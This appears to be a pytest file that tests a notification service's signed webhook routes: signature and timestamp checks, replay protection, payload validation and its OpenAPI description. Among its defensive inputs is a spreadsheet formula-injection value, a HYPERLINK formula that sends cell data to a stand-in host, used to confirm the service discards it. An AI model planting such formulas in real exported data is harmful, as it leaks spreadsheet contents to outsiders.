"""The inbound routes a real gateway posts to: signed the Standard Webhooks way (signatures made
here by the `standardwebhooks` library, as a gateway would), parsed into `delivery.events`."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any, cast

import pytest
import requests
from standardwebhooks.webhooks import Webhook

from api.app import create_app
from api.auth import Authenticator
from api.serving import SnapshotSource
from delivery.channels.http import MAX_PROVIDER_ID
from delivery.events import (
    MessageDelivered,
    RecordingInboundEvents,
    ReplyReceived,
    ReverificationAnswer,
    ReverificationAnswered,
    ReverificationCodeEntered,
    SmsError,
    SmsFailed,
)
from ownership.channels import Channel
from pipelines.settings import load_settings
from tests.api.service import TIMES_BEYOND_UTC, serving
from tests.api.wire import Answer, first_answer, request_sent

NOW = datetime(2026, 6, 2, 9, 0)  # the app's clock: naive UTC
AT = "2026-06-02T08:59:30Z"
VK_SECRET = "whsec_" + base64.b64encode(b"vk-gateway-secret-32-bytes-long!").decode()
OK_SECRET = "whsec_" + base64.b64encode(b"ok-gateway-secret-32-bytes-long!").decode()
SMS_SECRET = "whsec_" + base64.b64encode(b"sms-gateway-secret-32-bytes-long").decode()
DELIVERED = {"type": "message.delivered", "notification_id": "n-1", "provider_id": "vk-1", "at": AT}


@dataclass
class AppClock:
    """The app's clock, which a test may move (back to NOW after it)."""

    now: datetime = NOW

    def __call__(self) -> datetime:
        return self.now


APP_CLOCK = AppClock()


class Client:
    """Calls the app served on the loopback."""

    def __init__(self, base: str) -> None:
        self.base = base
        self.session = requests.Session()

    def post(self, path: str, **kwargs: Any) -> requests.Response:
        return self.session.post(self.base + path, timeout=10, **kwargs)


class Gateway:
    """Posts events the way a gateway does, signed with its secret."""

    def __init__(self, client: Client, secret: str) -> None:
        self.client = client
        self.webhook = Webhook(secret)

    def post(
        self,
        path: str,
        body: Any,
        *,
        stamp: datetime = NOW,
        message_id: str = "msg_1",
        tamper: bool = False,
    ) -> requests.Response:
        data = json.dumps(body, ensure_ascii=False)
        signature = self.webhook.sign(message_id, stamp, data)
        headers = {
            "webhook-id": message_id,
            "webhook-timestamp": str(int(stamp.replace(tzinfo=UTC).timestamp())),
            "webhook-signature": signature,
            "content-type": "application/json",
        }
        content = (data + " ") if tamper else data
        return self.client.post(path, data=content.encode(), headers=headers)


@pytest.fixture(scope="module")
def served(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Client, RecordingInboundEvents]]:
    """One app for the module, served on the loopback, its events recorded."""
    folder = tmp_path_factory.mktemp("inbound")
    settings = load_settings(
        scores_dir=folder,
        gateway_secrets={"vk": VK_SECRET, "ok": OK_SECRET, "sms": SMS_SECRET},
    )
    recorded = RecordingInboundEvents()
    app = create_app(
        settings,
        snapshots=SnapshotSource(folder / "snapshot.bin"),
        authenticator=cast(Authenticator, object()),  # these routes are not under OAuth
        clock=APP_CLOCK,
        inbound_events=recorded,
    )
    with serving(app) as base:
        yield Client(base), recorded


@pytest.fixture
def inbound(served: tuple[Client, RecordingInboundEvents]) -> Iterator[RecordingInboundEvents]:
    served[1].clear()
    yield served[1]
    APP_CLOCK.now = NOW


@pytest.fixture
def client(
    served: tuple[Client, RecordingInboundEvents], inbound: RecordingInboundEvents
) -> Client:
    return served[0]


@pytest.fixture
def vk(client: Client) -> Gateway:
    return Gateway(client, VK_SECRET)


def test_a_signed_delivery_report_reaches_the_notify_service(
    vk: Gateway, inbound: RecordingInboundEvents
) -> None:
    response = vk.post("/v1/networks/vk/events", DELIVERED)
    assert response.status_code == 204
    assert inbound.events == [
        MessageDelivered("n-1", "vk-1", Channel.VK, datetime(2026, 6, 2, 8, 59, 30, tzinfo=UTC))
    ]


def test_replies_and_answers_are_parsed(client: Client, inbound: RecordingInboundEvents) -> None:
    ok = Gateway(client, OK_SECRET)
    reply = {**DELIVERED, "type": "message.replied", "text": "Спасибо!"}
    answer = {**DELIVERED, "type": "prompt.answered", "answer": "denied"}
    assert ok.post("/v1/networks/ok/events", reply).status_code == 204
    assert ok.post("/v1/networks/ok/events", answer, message_id="msg_2").status_code == 204
    first, second = inbound.events
    assert isinstance(first, ReplyReceived) and first.text == "Спасибо!"
    assert first.channel is Channel.OK
    assert isinstance(second, ReverificationAnswered)
    assert second.answer is ReverificationAnswer.DENIED


def test_an_entered_code_is_parsed_and_kept_out_of_the_events_repr(
    client: Client, inbound: RecordingInboundEvents
) -> None:
    entered = {**DELIVERED, "type": "prompt.code_entered", "code": "042917", "account_id": "vk-1"}

    assert Gateway(client, VK_SECRET).post("/v1/networks/vk/events", entered).status_code == 204
    (event,) = inbound.events
    assert isinstance(event, ReverificationCodeEntered)
    assert (event.code, event.account_id, event.channel) == ("042917", "vk-1", Channel.VK)
    assert "042917" not in repr(event)  # a logged event shows no code
    too_long = {**entered, "code": "1" * 33}
    response = Gateway(client, VK_SECRET).post("/v1/networks/vk/events", too_long, message_id="m2")
    assert response.status_code == 400


def test_sms_reports_come_from_the_sms_gateway(
    client: Client, inbound: RecordingInboundEvents
) -> None:
    sms = Gateway(client, SMS_SECRET)
    failed = {**DELIVERED, "type": "sms.failed", "provider_id": "sms-1", "error": "expired"}
    assert sms.post("/v1/sms/events", failed).status_code == 204
    (event,) = inbound.events
    assert isinstance(event, SmsFailed) and event.error is SmsError.EXPIRED
    assert event.channel is Channel.SMS


@pytest.mark.parametrize(
    "how",
    ["tampered body", "another gateway's secret", "stale timestamp", "future timestamp"],
)
def test_what_the_gateway_did_not_sign_recently_is_unauthenticated(
    client: Client, inbound: RecordingInboundEvents, how: str
) -> None:
    secret = OK_SECRET if how == "another gateway's secret" else VK_SECRET
    stamp = {
        "stale timestamp": NOW - timedelta(minutes=5, seconds=1),
        "future timestamp": NOW + timedelta(minutes=5, seconds=1),
    }.get(how, NOW)
    response = Gateway(client, secret).post(
        "/v1/networks/vk/events", DELIVERED, stamp=stamp, tamper=how == "tampered body"
    )
    assert response.status_code == 401
    assert response.json()["code"] == "UNAUTHENTICATED"
    assert inbound.events == []


def test_a_timestamp_within_five_minutes_is_accepted(vk: Gateway) -> None:
    stamp = NOW - timedelta(minutes=4, seconds=59)
    assert vk.post("/v1/networks/vk/events", DELIVERED, stamp=stamp).status_code == 204


@pytest.mark.parametrize(
    ("path", "secret", "event"),
    [
        ("/v1/networks/vk/events", VK_SECRET, {"type": "prompt.answered", "answer": "confirmed"}),
        ("/v1/networks/vk/events", VK_SECRET, {}),  # a delivery, billed as of then
        ("/v1/sms/events", SMS_SECRET, {"type": "sms.delivered"}),
    ],
    ids=["answer", "delivery", "sms delivery"],
)
def test_an_event_dated_after_its_report_was_signed_is_invalid(
    client: Client, inbound: RecordingInboundEvents, path: str, secret: str, event: dict[str, str]
) -> None:
    # a Yes a year ahead would keep the number fresh for a year, and no batch would take it
    ahead = {**DELIVERED, **event, "at": "2027-06-02T09:00:00Z"}

    response = Gateway(client, secret).post(path, ahead)

    assert response.status_code == 400
    assert response.json()["code"] == "INVALID_ARGUMENT"
    assert response.json()["message"].startswith("at: is later than the report's")
    assert inbound.events == []


def test_an_event_dated_a_little_after_its_signature_is_taken(
    vk: Gateway, inbound: RecordingInboundEvents
) -> None:
    # the network's clock that dated it and the gateway's that signed it differ a little
    at = (NOW + timedelta(minutes=5)).isoformat() + "Z"
    assert vk.post("/v1/networks/vk/events", {**DELIVERED, "at": at}).status_code == 204
    assert len(inbound.events) == 1


def test_an_answer_may_name_the_account_that_gave_it(
    vk: Gateway, inbound: RecordingInboundEvents
) -> None:
    answer = {**DELIVERED, "type": "prompt.answered", "answer": "confirmed", "account_id": "vk-1"}

    assert vk.post("/v1/networks/vk/events", answer).status_code == 204
    too_long = {**answer, "account_id": "v" * 81}  # more than the store keeps
    assert vk.post("/v1/networks/vk/events", too_long, message_id="msg_2").status_code == 400

    (event,) = inbound.events
    assert isinstance(event, ReverificationAnswered) and event.account_id == "vk-1"


@pytest.mark.parametrize(
    "account_id", ['=HYPERLINK("http://x/?"&A2,"open")', "+1-555", "@sum", "-2+3"]
)
def test_an_answer_naming_an_account_a_spreadsheet_would_run_as_a_formula_keeps_no_account(
    vk: Gateway, inbound: RecordingInboundEvents, account_id: str
) -> None:
    answer = {
        **DELIVERED,
        "type": "prompt.answered",
        "answer": "confirmed",
        "account_id": account_id,
    }

    assert vk.post("/v1/networks/vk/events", answer).status_code == 204

    (event,) = inbound.events
    assert isinstance(event, ReverificationAnswered)
    assert (event.answer, event.account_id) == (ReverificationAnswer.CONFIRMED, None)


def test_unsigned_events_are_unauthenticated(client: Client) -> None:
    response = client.post("/v1/sms/events", json=DELIVERED)
    assert response.status_code == 401 and response.json()["code"] == "UNAUTHENTICATED"


@pytest.mark.parametrize("stamp", ["17¹", "1780390800.0", "-1780390800", "9" * 400])
def test_a_timestamp_that_is_not_unix_seconds_is_unauthenticated(
    vk: Gateway, inbound: RecordingInboundEvents, stamp: str
) -> None:
    headers = {
        "webhook-id": "msg_1",
        "webhook-timestamp": stamp,
        "webhook-signature": vk.webhook.sign("msg_1", NOW, json.dumps(DELIVERED)),
        "content-type": "application/json",
    }
    response = vk.client.post(
        "/v1/networks/vk/events", data=json.dumps(DELIVERED).encode(), headers=headers
    )
    assert response.status_code == 401 and response.json()["code"] == "UNAUTHENTICATED"
    assert inbound.events == []


@pytest.mark.parametrize("path", ["/v1/networks/vk/events", "/v1/sms/events"])
def test_an_unsigned_body_is_unauthenticated_even_when_it_is_not_json(
    client: Client, path: str
) -> None:
    # the signature is checked over the raw bytes before anything is parsed
    headers = {"content-type": "application/json"}
    response = client.post(path, data=b"{not json", headers=headers)
    assert response.status_code == 401 and response.json()["code"] == "UNAUTHENTICATED"


def test_a_signed_body_that_is_not_json_is_invalid(vk: Gateway) -> None:
    headers = {
        "webhook-id": "msg_1",
        "webhook-timestamp": str(int(NOW.replace(tzinfo=UTC).timestamp())),
        "webhook-signature": vk.webhook.sign("msg_1", NOW, "{not json"),
        "content-type": "application/json",
    }
    response = vk.client.post("/v1/networks/vk/events", data=b"{not json", headers=headers)
    assert response.status_code == 400 and response.json()["code"] == "INVALID_ARGUMENT"


def test_a_provider_id_of_80_characters_is_taken(vk: Gateway) -> None:
    body = {**DELIVERED, "provider_id": "v" * MAX_PROVIDER_ID}
    assert vk.post("/v1/networks/vk/events", body).status_code == 204


def test_any_one_of_several_signatures_may_match(vk: Gateway) -> None:
    data = json.dumps(DELIVERED)
    good = vk.webhook.sign("msg_1", NOW, data)
    headers = {
        "webhook-id": "msg_1",
        "webhook-timestamp": str(int(NOW.replace(tzinfo=UTC).timestamp())),
        "webhook-signature": f"v1,bm90LXRoaXMtb25l {good}",
        "content-type": "application/json",
    }
    response = vk.client.post("/v1/networks/vk/events", data=data.encode(), headers=headers)
    assert response.status_code == 204


@pytest.mark.parametrize("network", ["sms", "telegram", "VK"])
def test_an_unknown_network_is_not_found(vk: Gateway, network: str) -> None:
    response = vk.post(f"/v1/networks/{network}/events", DELIVERED)
    assert response.status_code == 404 and response.json()["code"] == "NOT_FOUND"


@pytest.mark.parametrize(
    "body",
    [
        {**DELIVERED, "type": "message.exploded"},
        {**DELIVERED, "at": "2026-06-02T08:59:30"},  # no offset
        *({**DELIVERED, "at": at} for at in TIMES_BEYOND_UTC),
        {**DELIVERED, "type": "prompt.answered", "answer": "maybe"},
        {**DELIVERED, "type": "sms.delivered"},  # an SMS event on a network's route
        {**DELIVERED, "channel": "ok"},  # the channel is the path's, never the body's
        {key: value for key, value in DELIVERED.items() if key != "provider_id"},
        {**DELIVERED, "provider_id": ""},
        {**DELIVERED, "provider_id": "v" * (MAX_PROVIDER_ID + 1)},  # more than the store keeps
        # what no store holds: PostgreSQL answered a NUL with a 500, which gateways retry
        {**DELIVERED, "notification_id": "ntf_\u0000x"},
        {**DELIVERED, "provider_id": "vk-\u0000"},
        {**DELIVERED, "type": "message.replied", "text": "Спасибо\u0000"},
        ["not", "an", "object"],
    ],
)
def test_a_signed_body_outside_the_contract_is_invalid(
    vk: Gateway, inbound: RecordingInboundEvents, body: Any
) -> None:
    response = vk.post("/v1/networks/vk/events", body)
    assert response.status_code == 400 and response.json()["code"] == "INVALID_ARGUMENT"
    assert inbound.events == []


def test_a_repeated_event_is_handed_over_again_for_the_idempotent_handler(
    vk: Gateway, inbound: RecordingInboundEvents
) -> None:
    # a gateway retries until it sees a 2xx; de-duplication is the notify service's job
    for _ in range(2):
        assert vk.post("/v1/networks/vk/events", DELIVERED).status_code == 204
    assert len(inbound.events) == 2 and inbound.events[0] == inbound.events[1]


def test_bad_gateway_secrets_fail_when_the_settings_are_read() -> None:
    with pytest.raises(ValueError, match="OWNERSHIP_GATEWAY_SECRETS"):
        load_settings(gateway_secrets={"vk": "whsec_c2hvcnQ="})
    with pytest.raises(ValueError, match="not channels"):
        load_settings(gateway_secrets={"telegram": VK_SECRET})


def test_the_document_still_describes_the_events_read_after_the_signature() -> None:
    # the routes read their bodies themselves, so the request body is documented by hand
    document = create_app(load_settings()).openapi()
    network = document["paths"]["/v1/networks/{network}/events"]["post"]["requestBody"]
    body = network["content"]["application/json"]
    variants = [variant["properties"]["type"]["const"] for variant in body["schema"]["oneOf"]]
    assert variants == [
        "message.delivered",
        "message.read",
        "message.replied",
        "prompt.answered",
        "prompt.code_entered",
    ]
    assert body["examples"]["delivered"]["value"]["type"] == "message.delivered"
    assert "$ref" not in json.dumps(body)
    sms = document["paths"]["/v1/sms/events"]["post"]["requestBody"]["content"]["application/json"]
    assert sms["schema"]["discriminator"] == {"propertyName": "type"}


STAMP = str(int(NOW.replace(tzinfo=UTC).timestamp()))
# signature headers that hold until the body is read (a signature of the right form, which
# only the body tells wrong), and changes that refuse any body
SIGNED = {
    "webhook-id": "msg_1",
    "webhook-timestamp": STAMP,
    "webhook-signature": "v1," + base64.b64encode(bytes(32)).decode(),
}
REFUSED_BY_HEADERS = {
    "no signature": {name: "" for name in SIGNED},
    "a stale timestamp": {"webhook-timestamp": str(int(STAMP) - 301)},
    "a timestamp that is not a number": {"webhook-timestamp": "soon"},
    "a signature of no HMAC-SHA256": {"webhook-signature": "v1,x v2,abc"},
}


def first_answer_to_a_report(client: Client, signature: dict[str, str]) -> Answer:
    """The service's first answer to a report that announces its body and waits, as
    `Expect: 100-continue` has it, to be asked for it."""
    headers = {
        "Content-Type": "application/json",
        "Content-Length": str(len(json.dumps(DELIVERED))),
        "Expect": "100-continue",
        **{name: value for name, value in signature.items() if value},
    }
    with request_sent(client.base, "POST", "/v1/networks/vk/events", headers) as connection:
        return first_answer(connection)


@pytest.mark.parametrize("refusal", REFUSED_BY_HEADERS)
def test_a_report_its_signature_headers_refuse_is_answered_before_its_body_is_asked_for(
    client: Client, refusal: str
) -> None:
    answer = first_answer_to_a_report(client, {**SIGNED, **REFUSED_BY_HEADERS[refusal]})

    assert answer.status == 401, answer
    assert json.loads(answer.body)["code"] == "UNAUTHENTICATED"


def test_a_report_whose_signature_headers_hold_is_asked_for_its_body(client: Client) -> None:
    answer = first_answer_to_a_report(client, SIGNED)

    assert answer.status == 100, answer


def test_a_report_whose_body_comes_after_its_stamp_went_stale_is_unauthenticated(
    vk: Gateway, inbound: RecordingInboundEvents
) -> None:
    """A capture replayed with its body held back would otherwise go through at any time."""
    body = json.dumps(DELIVERED).encode()
    headers = {
        "webhook-id": "msg_1",
        "webhook-timestamp": STAMP,
        "webhook-signature": vk.webhook.sign("msg_1", NOW, body.decode()),
        "Content-Type": "application/json",
        "Content-Length": str(len(body)),
        "Expect": "100-continue",
    }
    with request_sent(vk.client.base, "POST", "/v1/networks/vk/events", headers) as connection:
        asked = first_answer(connection)
        APP_CLOCK.now = NOW + timedelta(seconds=301)
        connection.sendall(body)
        answer = first_answer(connection)

    assert (asked.status, answer.status) == (100, 401)
    assert json.loads(answer.body)["message"].endswith("webhook-timestamp is outside the tolerance")
    assert inbound.events == []


def test_a_timestamp_written_with_leading_zeros_is_signed_as_its_number(
    vk: Gateway, inbound: RecordingInboundEvents
) -> None:
    """As Standard Webhooks libraries sign and verify it."""
    body = json.dumps(DELIVERED)
    headers = {
        "webhook-id": "msg_1",
        "webhook-timestamp": "0" + STAMP,
        "webhook-signature": vk.webhook.sign("msg_1", NOW, body),
        "content-type": "application/json",
    }

    response = vk.client.post("/v1/networks/vk/events", data=body.encode(), headers=headers)

    assert response.status_code == 204, response.text
    assert len(inbound.events) == 1
